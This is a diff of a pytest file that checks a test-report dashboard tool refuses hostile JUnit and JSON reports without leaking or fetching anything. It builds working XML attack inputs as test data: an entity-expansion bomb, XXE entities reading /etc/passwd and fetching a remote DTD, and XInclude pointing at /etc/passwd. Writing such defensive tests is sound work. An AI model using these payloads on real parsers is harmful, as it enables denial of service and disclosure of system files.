@@ -1,16 +1,41 @@
-"""Hostile report files (DESIGN.md §7): each is refused whole with a one-line ReportError, nothing leaks."""
+"""Hostile reports (DESIGN.md §7): refused whole with one plain line naming the problem, or read by a rule.
+
+First the parser on the stored files of tests/data/hostile (each refused with a one-line ReportError);
+then `ingest` on hostile files made here (exit 2, the store unchanged, nothing fetched or leaked); last,
+odd files that are accepted by a stated rule.
+"""
 
 from __future__ import annotations
 
+import codecs
+import json
 import resource
+import shutil
+import socket
+import subprocess
+import threading
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
+from factories import Cli, junit_text
+from reliability_support import CLI, cli_env, file_state
+from typer.testing import Result
 
 from ccdash_tests.parsers import ReportError, parse_report
 
-HOSTILE = Path(__file__).parent / "data" / "hostile"
+PASSWD = Path("/etc/passwd")
 PASSWD_MARKER = "root:x:0:0"
+GOOD_CASES = [("pkg.TestGood", "test_one", "passed"), ("pkg.TestGood", "test_two", "failed")]
+
+
+def deep(depth: int) -> bytes:
+    return b"<testsuites>" + b"<testsuite>" * depth + b"</testsuite>" * depth + b"</testsuites>"
+
+
+# ---- the parser on the stored hostile files -------------------------------------------------------
+
+HOSTILE = Path(__file__).parent / "data" / "hostile"
 
 # file -> words the refusal must contain (the problem, named for a human)
 EXPECTED = {
@@ -101,7 +126,7 @@ def test_forcing_a_format_on_the_wrong_content_is_refused() -> None:
 @pytest.mark.parametrize("depth", [1_001, 100_000])
 def test_deep_nesting_is_refused_without_recursion(tmp_path: Path, depth: int) -> None:
     path = tmp_path / "deep.xml"
-    path.write_text("<testsuites>" + "<testsuite>" * depth + "</testsuite>" * depth + "</testsuites>")
+    path.write_bytes(deep(depth))
     err = refuse(path)
     assert "nested deeper than 1000 levels" in str(err)
 
@@ -127,3 +152,367 @@ def test_nul_and_binary_after_a_valid_head(tmp_path: Path) -> None:
 def test_unreadable_path_and_directory(tmp_path: Path) -> None:
     assert "cannot read" in str(refuse(tmp_path / "nope.xml"))
     assert "directory" in str(refuse(tmp_path))
+
+
+# ---- through `ingest`: refused whole, the store unchanged -----------------------------------------
+
+
+def ingest(db: str, *files: str, extra: tuple[str, ...] = ()) -> Result:
+    return Cli(db, "p")("ingest", *files, "--json", *extra)
+
+
+def show(db: str) -> dict:
+    return Cli(db, "p").json("runs", "show")
+
+
+@pytest.fixture(scope="module")
+def template_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A store holding one committed run; each test works on a copy."""
+    folder = tmp_path_factory.mktemp("template")
+    good = folder / "good.xml"
+    good.write_text(junit_text(GOOD_CASES))
+    db = folder / "store.db"
+    result = ingest(str(db), str(good))
+    assert result.exit_code == 0, result.output
+    assert not Path(str(db) + "-wal").exists() or Path(str(db) + "-wal").stat().st_size == 0
+    return db
+
+
+@pytest.fixture
+def db(template_db: Path, tmp_path: Path) -> Path:
+    copy = tmp_path / "store.db"
+    shutil.copyfile(template_db, copy)
+    return copy
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[int, list[bytes]]]:
+    """A TCP port that records every connection made to it (a fetch of an external DTD would show here)."""
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(8)
+    server.settimeout(0.2)
+    seen: list[bytes] = []
+    stop = threading.Event()
+
+    def accept() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                continue
+            conn.settimeout(1)
+            try:
+                seen.append(conn.recv(1024) or b"<connected>")
+            except OSError:
+                seen.append(b"<connected>")
+            conn.close()
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], seen
+    stop.set()
+    thread.join()
+    server.close()
+
+
+def _bomb() -> bytes:
+    lines = ['<!ENTITY lol0 "lol">']
+    lines += [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
+    return (
+        '<?xml version="1.0"?>\n<!DOCTYPE testsuites [\n' + "\n".join(lines) + "\n]>\n"
+        '<testsuites><testsuite name="s"><testcase classname="c" name="&lol9;"/></testsuite></testsuites>\n'
+    ).encode()
+
+
+def _xxe(port: int) -> bytes:
+    return (
+        '<?xml version="1.0"?>\n'
+        f'<!DOCTYPE testsuites [<!ENTITY xxe SYSTEM "file://{PASSWD}">'
+        f'<!ENTITY % remote SYSTEM "http://127.0.0.1:{port}/evil.dtd"> %remote;]>\n'
+        '<testsuites><testsuite name="s"><testcase classname="c" name="t">'
+        "<failure>&xxe;</failure></testcase></testsuite></testsuites>\n"
+    ).encode()
+
+
+def _external_dtd(port: int) -> bytes:
+    return (
+        '<?xml version="1.0"?>\n'
+        f'<!DOCTYPE testsuites SYSTEM "http://127.0.0.1:{port}/junit.dtd">\n'
+        '<testsuites><testsuite name="s"><testcase classname="c" name="t"/></testsuite></testsuites>\n'
+    ).encode()
+
+
+GOOD_XML = junit_text(GOOD_CASES).encode()
+
+# name -> (content given the listener port, words the one-line refusal must contain)
+REFUSED: dict[str, tuple[Callable[[int], bytes], str]] = {
+    "entity_bomb.xml": (lambda _: _bomb(), "DTD"),
+    "xxe.xml": (_xxe, "DTD"),
+    "external_dtd.xml": (_external_dtd, "DTD"),
+    "undeclared_entity.xml": (
+        lambda _: (
+            b'<testsuites><testsuite name="s"><testcase classname="c" name="&xxe;"/></testsuite></testsuites>'
+        ),
+        "undefined entity",
+    ),
+    "truncated.xml": (lambda _: GOOD_XML[: len(GOOD_XML) // 2], "truncated"),
+    "empty.xml": (lambda _: b"", "empty"),
+    "blank.xml": (lambda _: b"  \n\t\n", "empty"),
+    "binary.bin": (lambda _: bytes(range(256)) * 64, "binary"),
+    "nul_bytes.xml": (lambda _: GOOD_XML.replace(b"test_one", b"test\x00one"), "malformed XML"),
+    "latin1_as_utf8.xml": (
+        lambda _: GOOD_XML.replace(b"test_one", "tést".encode("latin-1")),
+        "malformed XML",
+    ),
+    "deep.xml": (lambda _: deep(100_000), "deeper than"),
+    "html.xml": (lambda _: b"<html><body>hello</body></html>", "not a JUnit report"),
+    "wrong_shape.json": (lambda _: b'{"tests": {"a": 1}}', "not a pytest-json-report"),
+    "json_list.json": (lambda _: b"[1, 2, 3]", "not a pytest-json-report"),
+    "json_nan.json": (
+        lambda _: (
+            b'{"tests": [{"nodeid": "t.py::t", "outcome": "passed", "call": {"outcome": "passed", '
+            b'"duration": NaN}}]}'
+        ),
+        "NaN",
+    ),
+    "json_infinity.json": (
+        lambda _: b'{"duration": -Infinity, "tests": []}',
+        "NaN and Infinity",
+    ),
+    "json_outcome.json": (
+        lambda _: b'{"tests": [{"nodeid": "t.py::t", "outcome": "exploded"}]}',
+        "unknown outcome 'exploded'",
+    ),
+    "json_truncated.json": (lambda _: b'{"tests": [{"nodeid": "t.py::t", "outc', "truncated"),
+    "reportlog_outcome.jsonl": (
+        lambda _: (
+            b'{"pytest_version": "8.3.0", "$report_type": "SessionStart"}\n'
+            b'{"$report_type": "TestReport", "nodeid": "t.py::t", "when": "call", "outcome": "vanished", '
+            b'"location": ["t.py", 0, "t"], "keywords": {}, "longrepr": null, "duration": 0.1}\n'
+        ),
+        "unknown outcome",
+    ),
+}
+
+
+def assert_refusal(result: Result, name: str, words: str) -> None:
+    code, stdout, stderr = result.exit_code, result.stdout, result.stderr
+    assert code == 2, (stdout, stderr)
+    assert "Traceback" not in stdout + stderr
+    assert stdout == ""
+    lines = stderr.strip().splitlines()
+    assert 1 <= len(lines) <= 2, stderr
+    assert name in stderr
+    assert words.lower() in stderr.lower(), stderr
+
+
+@pytest.mark.parametrize("name", sorted(REFUSED))
+def test_hostile_file_is_refused_and_the_store_is_unchanged(
+    name: str, db: Path, tmp_path: Path, listener: tuple[int, list[bytes]]
+) -> None:
+    port, connections = listener
+    make, words = REFUSED[name]
+    report = tmp_path / name
+    report.write_bytes(make(port))
+    before = file_state(db)
+    result = ingest(str(db), str(report))
+    assert_refusal(result, str(report), words)
+    assert file_state(db) == before
+    assert connections == []
+    assert PASSWD_MARKER.encode() not in db.read_bytes()
+
+
+def test_refused_file_among_good_files_stores_nothing_from_any(db: Path, tmp_path: Path) -> None:
+    first = tmp_path / "a_first.xml"
+    first.write_text(junit_text([("pkg.A", f"test_{i}", "passed") for i in range(3000)]))
+    bad = tmp_path / "b_bad.xml"
+    bad.write_bytes(GOOD_XML[:-40])
+    last = tmp_path / "c_last.xml"
+    last.write_text(junit_text([("pkg.C", "test_c", "passed")]))
+    before = file_state(db)
+    for order in ((first, bad, last), (bad, first, last), (first, last, bad)):
+        result = ingest(str(db), *map(str, order))
+        assert_refusal(result, str(bad), "truncated")
+        assert file_state(db) == before
+    assert sorted(r["name"] for r in show(str(db))["results"]) == ["test_one", "test_two"]
+
+
+def test_refused_file_on_stdin_is_named_stdin(db: Path, tmp_path: Path) -> None:
+    before = file_state(db)
+    result = Cli(db, "p")("ingest", "-", input=b"<testsuites><testsuite>")
+    assert_refusal(result, "<stdin>", "truncated")
+    assert file_state(db) == before
+
+
+def test_refused_ingest_into_a_blank_store_stores_no_run(tmp_path: Path) -> None:
+    report = tmp_path / "deep.xml"
+    report.write_bytes(deep(100_000))
+    db = tmp_path / "blank.db"
+    result = ingest(str(db), str(report))
+    assert_refusal(result, str(report), "deeper than")
+    assert Cli(db, "p").json("runs", "list") == []
+
+
+@pytest.mark.postgres
+def test_refusal_leaves_a_postgresql_store_unchanged(postgres_schema_url: str, tmp_path: Path) -> None:
+    good = tmp_path / "good.xml"
+    good.write_bytes(GOOD_XML)
+    assert ingest(postgres_schema_url, str(good)).exit_code == 0
+
+    def snapshot() -> list:
+        from ccdash_tests.store import open_store
+
+        with open_store(postgres_schema_url) as store:
+            return [
+                store.engine.query(f"SELECT * FROM {table} ORDER BY 1")
+                for table in (
+                    "test_runs",
+                    "test_definitions",
+                    "test_results",
+                    "test_errors",
+                    "test_run_sources",
+                )
+            ]
+
+    before = snapshot()
+    many = tmp_path / "many.xml"
+    many.write_text(junit_text([("pkg.M", f"test_{i}", "failed") for i in range(5000)]))
+    for name in ("truncated.xml", "json_nan.json", "entity_bomb.xml"):
+        bad = tmp_path / name
+        bad.write_bytes(REFUSED[name][0](9))
+        result = ingest(postgres_schema_url, str(many), str(bad))
+        assert_refusal(result, str(bad), REFUSED[name][1])
+        assert snapshot() == before
+
+
+def test_xinclude_and_processing_instructions_are_inert(db: Path, tmp_path: Path) -> None:
+    """An accepted report that points at local files: nothing is read from them."""
+    report = tmp_path / "xinclude.xml"
+    report.write_text(
+        '<?xml version="1.0"?>\n<?xml-stylesheet href="file:///etc/passwd"?>\n'
+        '<testsuites xmlns:xi="http://www.w3.org/2001/XInclude"><testsuite name="s">'
+        '<testcase classname="c" name="t"><failure message="m">'
+        f'<xi:include href="{PASSWD}" parse="text"/></failure></testcase></testsuite></testsuites>\n'
+    )
+    result = ingest(str(db), str(report))
+    assert result.exit_code == 0, result.output
+    assert json.loads(result.stdout)["total_tests"] == 1
+    assert PASSWD_MARKER.encode() not in db.read_bytes()
+    assert not any(
+        PASSWD_MARKER.encode() in path.read_bytes() for path in tmp_path.iterdir() if path.is_file()
+    )
+
+
+def test_hostile_file_never_produces_a_traceback_in_a_real_process(tmp_path: Path) -> None:
+    """The installed entry point, not CliRunner: what a CI log would show."""
+    report = tmp_path / "deep.xml"
+    report.write_bytes(deep(100_000))
+    done = subprocess.run(
+        [*CLI, "ingest", str(report), "--db", str(tmp_path / "s.db"), "--project", "p"],
+        capture_output=True,
+        env=cli_env(),
+        cwd=tmp_path,
+        timeout=120,
+    )
+    assert done.returncode == 2, done.stderr
+    assert b"Traceback" not in done.stdout + done.stderr
+    assert done.stderr.decode().startswith(f"ccdash-tests: {report}: ")
+    assert len(done.stderr.decode().strip().splitlines()) == 1
+
+
+# ---- files that are accepted by a stated rule ---------------------------------------------------
+
+
+def test_bad_time_values_become_unknown_durations(db: Path, tmp_path: Path) -> None:
+    """Rule: a `time` that is not a finite, non-negative number is stored as no duration; 1,234.5 is read."""
+    times = {
+        "t_text": "abc",
+        "t_empty": "",
+        "t_nan": "NaN",
+        "t_inf": "inf",
+        "t_negative": "-1",
+        "t_huge": "1e400",
+        "t_thousands": "1,234.5",
+        "t_exponent": "2.5e-3",
+    }
+    cases = "".join(f'<testcase classname="c" name="{n}" time="{t}"/>' for n, t in times.items())
+    report = tmp_path / "times.xml"
+    report.write_text(f'<testsuites><testsuite name="s">{cases}</testsuite></testsuites>')
+    result = ingest(str(db), str(report), extra=("--run-id", "times"))
+    assert result.exit_code == 0, result.output
+    durations = {r["name"]: r["duration_ms"] for r in show(str(db))["results"]}
+    assert durations == {
+        "t_text": None,
+        "t_empty": None,
+        "t_nan": None,
+        "t_inf": None,
+        "t_negative": None,
+        "t_huge": None,
+        "t_thousands": 1234500.0,
+        "t_exponent": 2.5,
+    }
+    assert json.loads(result.stdout)["duration_ms"] == pytest.approx(1234502.5)
+
+
+@pytest.mark.parametrize(
+    ("encoding", "declared"), [("utf-16", "UTF-16"), ("utf-8-sig", "UTF-8"), ("iso-8859-1", "ISO-8859-1")]
+)
+def test_other_encodings_are_read(db: Path, tmp_path: Path, encoding: str, declared: str) -> None:
+    text = junit_text([("pkg.Tést", "test_café", "passed")]).replace(
+        'encoding="UTF-8"', f'encoding="{declared}"'
+    )
+    report = tmp_path / f"enc-{encoding}.xml"
+    report.write_bytes(text.encode(encoding))
+    if encoding == "utf-16":
+        assert report.read_bytes().startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE))
+    result = ingest(str(db), str(report), extra=("--run-id", encoding))
+    assert result.exit_code == 0, result.output
+    assert [(r["classname"], r["name"]) for r in show(str(db))["results"]] == [("pkg.Tést", "test_café")]
+
+
+@pytest.mark.parametrize("declared", ["x-no-such-charset", "shift_jis", "utf-32", "utf-7"])
+def test_declared_encoding_expat_cannot_read_is_refused_or_read(
+    db: Path, tmp_path: Path, declared: str
+) -> None:
+    """Either rule is acceptable: refuse with exit 2 naming the encoding, or read the names correctly."""
+    text = junit_text([("pkg.T", "test_テスト", "passed")]).replace(
+        'encoding="UTF-8"', f'encoding="{declared}"'
+    )
+    report = tmp_path / f"declared-{declared}.xml"
+    try:
+        report.write_bytes(text.encode(declared))
+    except LookupError:
+        report.write_bytes(text.encode("utf-8"))
+    before = file_state(db)
+    result = ingest(str(db), str(report), extra=("--run-id", "enc"))
+    assert result.exit_code in (0, 2), (
+        f"exit {result.exit_code}: an unhandled error (stderr {result.stderr!r})"
+    )
+    if result.exit_code == 2:
+        assert_refusal(result, str(report), "encoding")
+        assert file_state(db) == before
+    else:
+        assert [r["name"] for r in show(str(db))["results"]] == ["test_テスト"]
+
+
+def test_ten_megabyte_failure_text_is_stored_bounded_and_marked_truncated(db: Path, tmp_path: Path) -> None:
+    huge = "x" * (10 * 1024 * 1024)
+    report = tmp_path / "huge.xml"
+    report.write_text(
+        '<testsuites><testsuite name="s"><testcase classname="c" name="t_huge">'
+        f'<failure message="{"m" * (10 * 1024 * 1024)}">{huge}</failure></testcase>'
+        '<testcase classname="c" name="t_small"><failure message="small">short</failure></testcase>'
+        "</testsuite></testsuites>"
+    )
+    size_before = db.stat().st_size
+    result = ingest(str(db), str(report), extra=("--run-id", "huge"))
+    assert result.exit_code == 0, result.output
+    results = {r["name"]: r for r in show(str(db))["results"]}
+    big = results["t_huge"]
+    assert big["error_truncated"] is True
+    assert 0 < len(big["error_message"]) <= 1024 * 1024
+    assert 0 < len(big["error_details"] or "") <= 1024 * 1024
+    assert results["t_small"]["error_truncated"] is False
+    assert results["t_small"]["error_details"] == "short"
+    assert db.stat().st_size - size_before < 2 * 1024 * 1024
